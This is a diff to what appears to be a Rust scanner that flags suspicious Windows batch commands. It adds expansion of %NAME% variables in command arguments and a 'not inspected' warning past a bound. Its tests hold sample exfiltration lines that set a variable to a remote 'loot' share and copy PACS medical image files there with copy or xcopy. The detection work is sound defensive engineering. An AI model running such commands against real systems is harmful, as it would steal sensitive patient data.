@@ -5413,8 +5413,17 @@ fn command_at(
     // `%`), and a name built from a substring or replacement, or from input, is
     // known only when it runs.
     let expanded;
+    // Whether the arguments held more variables than were expanded.
+    let mut expansion_cut = false;
     let start = match expand_program_name(bytes, offset, start, variables) {
-        None => start,
+        None => match expand_arguments(bytes, offset, start, variables) {
+            Some((line, cut)) => {
+                expanded = line;
+                expansion_cut = cut;
+                &expanded[..]
+            }
+            None => start,
+        },
         Some(Expanded::Line(line)) => {
             expanded = line;
             &expanded[program_start(&expanded)..]
@@ -5506,8 +5515,21 @@ fn command_at(
             });
         }
     };
-    let (program, alone) =
-        batch_program(start, named_by_path, pathext, in_block, chance_bytes, piped)?;
+    let Some((program, alone)) =
+        batch_program(start, named_by_path, pathext, in_block, chance_bytes, piped)
+    else {
+        // What the variables past the bound hold is not known: never silence.
+        return expansion_cut.then(|| Command {
+            offset,
+            interpreter: "batch",
+            severity: Severity::Warning,
+            kind: FindingKind::NotInspected,
+            detail: format!(
+                "a Windows command line (\"{}\") whose arguments hold more variables (%NAME%) than the {MAX_EXPANDED_ARGUMENTS} expanded (MAX_EXPANDED_ARGUMENTS): what the tool is given past them was not inspected",
+                line_excerpt(bytes, offset)
+            ),
+        });
+    };
     let interpreter = if matches!(program, b"powershell" | b"pwsh") {
         "powershell"
     } else {
@@ -6460,6 +6482,85 @@ enum Expanded {
     Line(Vec<u8>),
     /// The name is built from what is known only when it runs: how, said in a finding.
     Built(String),
+}
+
+/// The most `%NAME%` of one command's arguments [`expand_arguments`] looks up: each is a
+/// look-up among the file's `set` commands (up to [`MAX_BATCH_VARIABLES`]). A command
+/// holding more is read with the rest as written and, when that finds nothing, is a
+/// `not-inspected` warning naming this bound.
+pub const MAX_EXPANDED_ARGUMENTS: usize = 16;
+
+/// The command at `start` (at `at` in `bytes`), when its program is a tool of [`BATCH`]
+/// (named bare or by its path), with each `%NAME%` of its arguments that the file set
+/// before it replaced by the value, as cmd.exe expands a line before it runs it (session
+/// 41: `set s=\\host\loot` then `copy C:\PACS\*.dcm %s%` was clean); any other `%` is
+/// kept as written (`%TEMP%`, a `for` loop's `%%f`, `%~nf`). To the command's end and
+/// the byte ending it. `None` when nothing was expanded and no bound reached; the
+/// `bool` says whether more than [`MAX_EXPANDED_ARGUMENTS`] were there.
+fn expand_arguments(
+    bytes: &[u8],
+    at: usize,
+    start: &[u8],
+    variables: &mut Variables,
+) -> Option<(Vec<u8>, bool)> {
+    let end = command_len(start);
+    let line = &start[..end];
+    let first = &line[..line
+        .iter()
+        .position(|&b| ends_word(b))
+        .unwrap_or(line.len())];
+    let file = &first[first
+        .iter()
+        .rposition(|&b| b == b'\\')
+        .map_or(0, |at| at + 1)..];
+    let file: Vec<u8> = file
+        .iter()
+        .filter(|&&b| b != b'"')
+        .map(u8::to_ascii_lowercase)
+        .collect();
+    if !BATCH.contains(&without_program_extension(&file)) || memchr::memchr(b'%', line).is_none() {
+        return None;
+    }
+    let mut out = Vec::with_capacity(line.len() + 1);
+    let (mut looked, mut changed, mut cut) = (0, false, false);
+    let mut i = 0;
+    while let Some(&b) = line.get(i) {
+        if b != b'%' {
+            out.push(b);
+            i += 1;
+            continue;
+        }
+        // `%%`: a literal `%` (or a `for` loop's `%%f`), both kept.
+        if line.get(i + 1) == Some(&b'%') {
+            out.extend_from_slice(b"%%");
+            i += 2;
+            continue;
+        }
+        let name = memchr::memchr(b'%', &line[i + 1..])
+            .map(|n| &line[i + 1..i + 1 + n])
+            .filter(|name| is_variable_name(name));
+        let Some(name) = name else {
+            out.push(b);
+            i += 1;
+            continue;
+        };
+        if looked == MAX_EXPANDED_ARGUMENTS {
+            cut = true;
+            out.extend_from_slice(&line[i..]);
+            break;
+        }
+        looked += 1;
+        match variables.at(bytes, &name.to_ascii_lowercase(), at) {
+            Lookup::Value(value) => {
+                out.extend_from_slice(value);
+                changed = true;
+            }
+            _ => out.extend_from_slice(&line[i..i + name.len() + 2]),
+        }
+        i += name.len() + 2;
+    }
+    out.extend_from_slice(start.get(end..=end).unwrap_or_default());
+    (changed || cut).then_some((out, cut))
 }
 
 /// The line at `start` (at `at` in `bytes`) with the `%` expansions of its first word
@@ -9466,6 +9567,47 @@ mod lolbin_tests {
             ],
             &[false, true],
         );
+    }
+
+    /// Session 41 (issue 10): a share set in a variable (`set s=\\host\loot`) and handed
+    /// to `copy` as `%s%`: cmd.exe expands it before `copy` reads it.
+    #[test]
+    fn a_share_in_a_variable_is_remote() {
+        assert_alerts(
+            &[
+                "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s%",
+                "set s=\\\\198.51.100.7\\loot\r\nC:\\Windows\\System32\\xcopy.exe C:\\PACS %s% /s",
+            ],
+            &[false, true],
+        );
+        // Unset, `%s%` is nothing: `copy` is given one file.
+        assert_clean(&["copy C:\\PACS\\*.dcm %s%"]);
+    }
+
+    /// `MAX_EXPANDED_ARGUMENTS` variables of a command's arguments are expanded; past
+    /// them the rest is read as written, and a command that then finds nothing is a
+    /// `not-inspected` warning naming the bound.
+    #[test]
+    fn arguments_past_the_expanded_variables_are_said_not_inspected() {
+        let line = |unset: usize| {
+            format!(
+                "set s=\\\\198.51.100.7\\loot\r\ncopy \"C:\\PACS\\{}\" %s%",
+                "%a%".repeat(unset)
+            )
+        };
+        let within = line(MAX_EXPANDED_ARGUMENTS - 1);
+        assert_alerts(&[within.as_str()], &[false, true]);
+        let past = line(MAX_EXPANDED_ARGUMENTS);
+        for binary in [false, true] {
+            let found = found(past.as_bytes(), binary).expect("a warning");
+            assert_eq!(found.severity, Severity::Warning, "{}", found.detail);
+            assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
+            assert!(
+                found.detail.contains("MAX_EXPANDED_ARGUMENTS"),
+                "{}",
+                found.detail
+            );
+        }
     }
 
     /// Session 41 (issue 10): report prose that alerted, each of which cmd.exe runs to no
